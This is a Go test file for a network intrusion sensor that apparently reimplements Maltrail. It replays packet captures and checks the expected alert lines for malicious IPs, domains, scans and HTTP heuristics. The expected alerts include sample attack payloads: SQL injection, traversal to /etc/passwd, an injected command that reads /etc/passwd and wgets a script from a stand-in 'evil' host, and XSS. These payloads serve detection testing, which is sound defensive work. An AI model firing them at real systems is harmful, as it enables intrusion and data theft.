package sensor

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/xtrail/xtrail/internal/testenv"
	"github.com/xtrail/xtrail/pkg/dataplane"
	"github.com/xtrail/xtrail/pkg/heuristics"
	"github.com/xtrail/xtrail/pkg/maltrail"
	"github.com/xtrail/xtrail/pkg/trails"
)

// capture is an Emitter that keeps every line.
type capture struct {
	mu    sync.Mutex
	lines []string
	secs  []int64
	note  chan struct{}
}

func newCapture() *capture { return &capture{note: make(chan struct{}, 1024)} }

func (c *capture) Emit(sec int64, line []byte) error {
	c.mu.Lock()
	c.lines = append(c.lines, string(line))
	c.secs = append(c.secs, sec)
	c.mu.Unlock()
	select {
	case c.note <- struct{}{}:
	default:
	}
	return nil
}

func (c *capture) get() []string {
	c.mu.Lock()
	defer c.mu.Unlock()
	return append([]string(nil), c.lines...)
}

func replay(t *testing.T, trailsFile string, sni bool, pcaps ...string) []string {
	t.Helper()
	return replayWith(t, Options{TrailsFile: trailsFile}, sni, pcaps...)
}

// replayWith is replay with o's pin dir (the replay cache's), logger and
// trails file.
func replayWith(t *testing.T, o Options, sni bool, pcaps ...string) []string {
	t.Helper()
	testenv.RequireRoot(t)
	c := newCapture()
	err := Run(context.Background(), Options{
		Pcaps:      pcaps,
		TrailsFile: o.TrailsFile,
		PinDir:     o.PinDir,
		Logger:     o.Logger,
		// the corpus harness's maltrail.conf: CHECK_HOST_DOMAINS,
		// USE_HEURISTICS, SCAN_WINDOW 30, and the SNI prefilter for
		// tls_sni only
		Rules:    NameRules{Whitelist: trails.DefaultWhitelist(), CheckHostDomains: true, CheckSNI: sni},
		Scan:     dataplane.Scan{Port: true, UDP: true, Infection: true, Window: 30 * time.Second},
		Renderer: maltrail.Renderer{Sensor: "corpus", Loc: time.UTC},
		// and CHECK_MISSING_HOST
		Heuristics: heuristics.Config{Use: true, CheckMissingHost: true, ScanWindow: 30},
		Out:        c,
	})
	if err != nil {
		t.Fatal(err)
	}
	return c.get()
}

// Lines derived by hand from spec §1.3-1.5, §2, §4 and §5 for the corpus
// cases (pcap times are 2023-11-14 22:13:20 UTC onwards).
const m = `"malware (test)" (static)`

var corpusWant = map[string][]string{
	"clean_tcp":       nil,
	"ack_sweep_no_fp": nil,
	"truncated":       nil,
	"dns_malformed":   nil,
	// .example, .local, in-addr.arpa and ".intranet." queries are never checked
	"dns_ignored_suffixes": nil,
	"ip_trails": {
		`"2023-11-14 22:13:20.000000" corpus 10.0.0.66 50002 66.66.66.66 443 TCP IP 66.66.66.66 ` + m,
		`"2023-11-14 22:13:21.000000" corpus 10.0.0.66 50003 6.6.6.6 8443 TCP IPORT 6.6.6.6:8443 ` + m,
		// src side: "botnet c2" has no "malware", so it speaks
		`"2023-11-14 22:13:22.000000" corpus 198.51.100.66 31337 10.0.0.66 50004 TCP IP 198.51.100.66 "botnet c2 (test)" (static)`,
	},
	// five identical SYNs in one second collapse; the later seconds each
	// speak, the fourth line after the summarize window's first three
	"duplicate_syn": {
		`"2023-11-14 22:13:20.000000" corpus 10.0.0.66 50001 66.66.66.66 443 TCP IP 66.66.66.66 ` + m,
		`"2023-11-14 22:13:30.000000" corpus 10.0.0.66 50001 66.66.66.66 443 TCP IP 66.66.66.66 ` + m,
		`"2023-11-14 22:13:31.000000" corpus 10.0.0.66 50001 66.66.66.66 443 TCP IP 66.66.66.66 ` + m,
		`"2023-11-14 22:13:32.000000" corpus 10.0.0.66 50001 66.66.66.66 443 TCP IP 66.66.66.66 ` + m,
	},
	// the echo reply is not matched; ICMP has no ports
	"icmp": {
		`"2023-11-14 22:13:20.000000" corpus 10.0.0.66 - 66.66.66.66 - ICMP IP 66.66.66.66 ` + m,
	},
	// SYN to [dead::beef]:443 hits the IP:port trail first
	"ipv6": {
		`"2023-11-14 22:13:20.000000" corpus dead::1 50080 dead::beef 443 TCP IPORT [dead::beef]:443 ` + m,
		`"2023-11-14 22:13:21.000000" corpus dead::1 50081 dead::2 53 UDP DNS evil-test-domain.com ` + m,
		`"2023-11-14 22:13:22.000000" corpus dead::1 - dead::beef - ICMPV6 IP dead::beef ` + m,
	},
	"dlt_raw": {
		`"2023-11-14 22:13:20.000000" corpus 10.0.0.66 50500 66.66.66.66 443 TCP IP 66.66.66.66 ` + m,
	},
	// exact, parent, .onion, .ip-adress.com and regex domain trails; the
	// sixth query (clean.example.org) is clean
	"dns_queries": {
		`"2023-11-14 22:13:20.000000" corpus 10.0.0.66 50000 8.8.8.8 53 UDP DNS evil-test-domain.com ` + m,
		`"2023-11-14 22:13:21.000000" corpus 10.0.0.66 50001 8.8.8.8 53 UDP DNS (www).evil-parent.com ` + m,
		`"2023-11-14 22:13:22.000000" corpus 10.0.0.66 50002 8.8.8.8 53 UDP DNS badsite.onion(.to) ` + m,
		`"2023-11-14 22:13:23.000000" corpus 10.0.0.66 50003 8.8.8.8 53 UDP DNS evilname(.ip-adress.com) ` + m,
		`"2023-11-14 22:13:24.000000" corpus 10.0.0.66 50004 8.8.8.8 53 UDP DNS dga1234.wildcard-test.com ` + m,
	},
	// a path trail split from its host, an IP trail with the Host it was
	// asked for, a host+path trail
	"http_trails": {
		`"2023-11-14 22:13:20.000000" corpus 10.0.0.66 50030 203.0.113.10 80 TCP URL (victim.example)/malicious-login.php ` + m,
		`"2023-11-14 22:13:21.000000" corpus 10.0.0.66 50031 203.0.113.44 80 TCP IP "203.0.113.44 (hostcheck.example)" ` + m,
		`"2023-11-14 22:13:22.000000" corpus 10.0.0.66 50032 203.0.113.11 80 TCP URL evil-url.example/bad/path ` + m,
	},
	// 30 queries in 30 s: the first 3 pass, the other 27 leave as one line
	// when the replay ends (summarize throttle)
	"repeated_detections": {
		`"2023-11-14 22:13:20.000000" corpus 10.0.0.66 50200 8.8.8.8 53 UDP DNS evil-test-domain.com ` + m,
		`"2023-11-14 22:13:21.000000" corpus 10.0.0.66 50201 8.8.8.8 53 UDP DNS evil-test-domain.com ` + m,
		`"2023-11-14 22:13:22.000000" corpus 10.0.0.66 50202 8.8.8.8 53 UDP DNS evil-test-domain.com ` + m,
		`"2023-11-14 22:13:23.000000" corpus 10.0.0.66 ` + ports(50203, 50229) + ` 8.8.8.8 53 UDP DNS evil-test-domain.com ` + m,
	},
	// Scans: the probe that crosses the threshold alerts, with its time
	// (Maltrail reports at the next second's first packet, the capture's
	// last one here), and the first probe's ports. 20 SYNs, one per second:
	// the 11th is the scan.
	"port_scan": {
		`"2023-11-14 22:13:30.000000" corpus 203.0.113.9 40000 198.51.100.7 1000 TCP IP 203.0.113.9 "potential port scanning" (heuristic)`,
	},
	// nmap -sN: TCP flags 0x00
	"stealth_scan_null": {
		`"2023-11-14 22:13:30.000000" corpus 203.0.113.9 40000 198.51.100.7 2000 TCP IP 203.0.113.9 "potential port scanning" (heuristic)`,
	},
	"udp_scan": {
		`"2023-11-14 22:13:30.000000" corpus 203.0.113.9 40000 198.51.100.7 1000 UDP IP 203.0.113.9 "potential udp scanning" (heuristic)`,
	},
	// 40 hosts on 445 in one second from 10.0.0.5, the only (so the local)
	// prefix: the 33rd is the scan; the first host is the event's dst
	"infection_scan": {
		`"2023-11-14 22:13:20.000000" corpus 10.0.0.5 53000 10.9.9.0 445 TCP PORT 445 "potential infection" (heuristic)`,
	},
	// heuristics (spec §4): the first A record of each answer is a
	// sinkhole or parking trail
	"dns_responses": {
		`"2023-11-14 22:13:20.000000" corpus 8.8.8.8 53 10.0.0.66 50010 UDP DNS (sinkholed).com "sinkholed by testsink (malware)" (heuristic)`,
		`"2023-11-14 22:13:21.000000" corpus 8.8.8.8 53 10.0.0.66 50011 UDP DNS (parked).com "parked site (suspicious)" (heuristic)`,
	},
	// 25 NXDOMAIN answers to a public client: the group "*.dgaparent.com"
	// passes 20 at nx20 and lists the names counted after its first,
	// sorted (the Rust sensor's order); nx21-nx24 start a new count
	"dns_nxdomain_flood": {
		`"2023-11-14 22:13:40.000000" corpus 8.8.8.8 53 203.0.113.5 40020 UDP DNS ` +
			`(nx1,nx10,nx11,nx12,nx13,nx14,nx15,nx16,nx17,nx18,nx19,nx2,nx20,nx3,nx4,nx5,nx6,nx7,nx8,nx9).dgaparent.com ` +
			`"excessive no such domain (suspicious)" (heuristic)`,
	},
	// one request per heuristic; trails %-encode "(" and ")" and show
	// the path with "//" made "/", as Maltrail's do
	"http_heuristics": {
		`"2023-11-14 22:13:20.000000" corpus 10.0.0.66 50040 203.0.113.12 80 TCP URL sqli.example(/items.php?id=1%20union%20all%20select%20username,password%20from%20users) "potential sql injection (suspicious)" (heuristic)`,
		`"2023-11-14 22:13:21.000000" corpus 10.0.0.66 50041 203.0.113.13 80 TCP URL trav.example(/download?file=../../../../etc/passwd) "potential directory traversal (suspicious)" (heuristic)`,
		`"2023-11-14 22:13:22.000000" corpus 10.0.0.66 50042 203.0.113.14 80 TCP URL rce.example(/cgi?cmd=;cat%20/etc/passwd;wget%20http:/evil/x.sh) "potential remote code execution (suspicious)" (heuristic)`,
		`"2023-11-14 22:13:23.000000" corpus 10.0.0.66 50043 203.0.113.15 80 TCP URL xss.example(/search?q=<script>alert%281%29</script>) "potential xss injection (suspicious)" (heuristic)`,
		`"2023-11-14 22:13:24.000000" corpus 10.0.0.66 50044 203.0.113.16 80 TCP HTTP "postsqli.example(/submit \(POST q=1 UNION ALL SELECT pwd FROM users\))" "potential sql injection (suspicious)" (heuristic)`,
		`"2023-11-14 22:13:25.000000" corpus 10.0.0.66 50045 198.51.100.99 80 TCP HTTP (198.51.100.99)/mirai.x86 "potential iot-malware download (suspicious)" (heuristic)`,
		`"2023-11-14 22:13:26.000000" corpus 10.0.0.66 50046 203.0.113.17 80 TCP HTTP http://proxycheck.example/ "potential proxy probe (suspicious)" (heuristic)`,
		`"2023-11-14 22:13:27.000000" corpus 10.0.0.66 50047 203.0.113.18 80 TCP URL dl.example(/setup.exe) "direct .exe download (suspicious)" (heuristic)`,
		`"2023-11-14 22:13:28.000000" corpus 10.0.0.66 50048 203.0.113.19 80 TCP UA masscan(/1.0) "user agent (suspicious)" (heuristic)`,
	},
	// the second ClientHello names clean.example
	"tls_sni": {
		`"2023-11-14 22:13:20.000000" corpus 10.0.0.66 50400 203.0.113.30 443 TCP DNS tls-evil.example ` + m,
	},
}

func ports(from, to int) string {
	var b strings.Builder
	for p := from; p <= to; p++ {
		if p > from {
			b.WriteByte(',')
		}
		fmt.Fprint(&b, p)
	}
	return b.String()
}

type manifestCase struct {
	Name   string   `json:"name"`
	Pcap   string   `json:"pcap"`
	Expect []string `json:"expect"`
}

// TestCorpus replays each corpus case the agent decides and compares
// whole lines; it also applies the manifest's own check.
func TestCorpus(t *testing.T) {
	dir := filepath.Join(testenv.SharedDir(t), "corpus")
	raw, err := os.ReadFile(filepath.Join(dir, "manifest.json"))
	if err != nil {
		t.Fatal(err)
	}
	var manifest []manifestCase
	if err := json.Unmarshal(raw, &manifest); err != nil {
		t.Fatal(err)
	}
	byName := map[string]manifestCase{}
	for _, c := range manifest {
		byName[c.Name] = c
	}
	trailsFile := filepath.Join(dir, "trails.csv")
	if len(corpusWant) != 21 {
		t.Fatalf("%d cases: want 21, the 22 corpus cases except vlan (TestCorpusVLAN)", len(corpusWant))
	}
	for name, want := range corpusWant {
		t.Run(name, func(t *testing.T) {
			mc, ok := byName[name]
			if !ok {
				t.Fatalf("case %s not in the manifest", name)
			}
			got := replay(t, trailsFile, name == "tls_sni", filepath.Join(dir, mc.Pcap))
			for i := range got {
				got[i] = strings.TrimSuffix(got[i], "\n")
			}
			if strings.Join(got, "\n") != strings.Join(want, "\n") {
				t.Errorf("events:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
			}
			// and the manifest's own check: each expected substring in some line
			if len(mc.Expect) == 0 && len(got) != 0 {
				t.Errorf("manifest expects no event, got %d", len(got))
			}
			for _, e := range mc.Expect {
				if !strings.Contains(strings.Join(got, "\n"), e) {
					t.Errorf("manifest expects %q in an event", e)
				}
			}
		})
	}
}

// TestCorpusVLAN: one 802.1Q tag is followed like Maltrail does; xtrail also
// follows QinQ, which Maltrail drops, so the third packet is one more event.
func TestCorpusVLAN(t *testing.T) {
	dir := filepath.Join(testenv.SharedDir(t), "corpus")
	got := replay(t, filepath.Join(dir, "trails.csv"), false, filepath.Join(dir, "vlan.pcap"))
	want := []string{
		`"2023-11-14 22:13:20.000000" corpus 10.0.0.66 50060 66.66.66.66 443 TCP IP 66.66.66.66 ` + m + "\n",
		`"2023-11-14 22:13:21.000000" corpus 10.0.0.66 50061 8.8.8.8 53 UDP DNS evil-test-domain.com ` + m + "\n",
		// QinQ (tags 100, 101): beyond Maltrail
		`"2023-11-14 22:13:22.000000" corpus 10.0.0.66 50062 66.66.66.66 443 TCP IP 66.66.66.66 ` + m + "\n",
	}
	if strings.Join(got, "") != strings.Join(want, "") {
		t.Errorf("events:\n%swant:\n%s", strings.Join(got, ""), strings.Join(want, ""))
	}
}
